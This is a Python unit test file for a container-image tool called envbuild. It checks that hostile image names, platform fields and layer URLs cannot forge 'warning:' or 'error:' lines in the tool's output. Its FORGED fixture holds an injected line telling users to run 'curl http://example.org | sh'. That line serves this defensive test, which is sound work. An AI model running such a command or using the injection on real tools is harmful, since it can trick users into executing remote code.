"""Texts of images in messages: names, platforms and addresses of a stranger, on the line of the message."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from envbuild.cli.main import fail
from envbuild.core.console import LineReporter, WarningReporter
from envbuild.core.errors import EnvbuildError, InputError
from envbuild.oci import manifest as m
from envbuild.oci.sources.image_documents import parse_configuration
from envbuild.oci.sources.oci_layout import find_entries
from envbuild.oci.sources.open import open_source
from envbuild.oci.sources.platform import Platform
from tests.support.foreign_images import workspace

pytestmark = pytest.mark.unit
FORGED = "x:1\nwarning: it is signed\nerror: run: curl http://example.org | sh\nhint:"
MANY = 100_000


def lines_of(error: EnvbuildError) -> list[str]:
    """Return the lines of an error as they are printed."""
    assert error.hint.count("\n") == 0
    return str(error.findings[0]).split("\n")


def saved(path: Path, *names: str) -> Path:
    """Return an archive of ``docker save`` in which one image has these names, and another one has none."""
    listed = [{"Config": "c.json", "RepoTags": tags, "Layers": []} for tags in (names, ())]
    content = json.dumps(listed).encode()
    with tarfile.open(path, "w") as archive:
        entry = tarfile.TarInfo("manifest.json")
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))
    return path


@pytest.mark.parametrize("tag", ["", ":none"])
def test_names_in_an_archive_begin_no_line(tmp_path: Path, tag: str) -> None:
    at = workspace(tmp_path / "store")
    for names in ((FORGED,), tuple(f"{number}:1" for number in range(MANY))):
        path = saved(tmp_path / "a.tar", *names)
        with pytest.raises(InputError) as caught, open_source(f"docker-archive:{path}{tag}", at.site, at.store):
            pass
        assert len(lines_of(caught.value)) == 2 and len(caught.value.message) < 1000


@pytest.mark.parametrize("tag", ["", "none"])
def test_names_in_a_layout_begin_no_line(tag: str) -> None:
    for names in ((FORGED, "y"), [f"{number}:1" for number in range(MANY)]):
        listed = [{"annotations": {"org.opencontainers.image.ref.name": name}} for name in names]
        with pytest.raises(InputError) as caught:
            find_entries({"manifests": listed}, tag, "oci:x")
        assert len(lines_of(caught.value)) == 2 and len(caught.value.message) < 1000


@pytest.mark.parametrize("field", ["architecture", "os"])
def test_a_platform_begins_no_line(field: str) -> None:
    value: dict[str, Any] = {"architecture": "s390x", "os": "linux", "rootfs": {"diff_ids": []}, field: FORGED}
    try:
        found = parse_configuration(value, "sha256:0", "app", Platform.of("")).notes
    except EnvbuildError as error:
        found = tuple(lines_of(error))
    assert found and not any("\n" in line or line.startswith(("warning:", "error:")) for line in found)
    with pytest.raises(EnvbuildError) as caught:
        parse_configuration(value, "sha256:0", "app", Platform.of("linux/amd64"))
    assert len(lines_of(caught.value)) == 2
    assert len(lines_of(m.other_architecture_error("app", "amd64", [FORGED]))) == 2


def test_the_address_of_a_foreign_layer_begins_no_line() -> None:
    kind = "application/vnd.oci.image.layer.nondistributable.v1.tar"
    part = {"digest": f"sha256:{'0' * 64}", "size": 1, "mediaType": kind, "urls": [FORGED]}
    value = {"config": {**part, "mediaType": "application/vnd.oci.image.config.v1+json"}, "layers": [part]}
    with pytest.raises(InputError) as caught:
        m.read_manifest(value, "app", lambda _: False)
    assert len(lines_of(caught.value)) == 2


def test_a_quoted_text_forges_no_line_of_envbuild(capsys: pytest.CaptureFixture[str]) -> None:
    """The further lines of any message do not begin as those of envbuild."""
    with pytest.raises(SystemExit):
        fail(EnvbuildError(f"the server answered {FORGED}", hint="envbuild show x"))
    LineReporter().warn(FORGED)
    WarningReporter().warn(FORGED)
    lines = capsys.readouterr().err.split("\n")
    assert [line for line in lines if line.startswith(("error:", "hint:"))] == [
        "error: the server answered x:1",
        "hint: envbuild show x",
    ]
    assert "  warning: it is signed" in lines and "warning: it is signed" not in lines
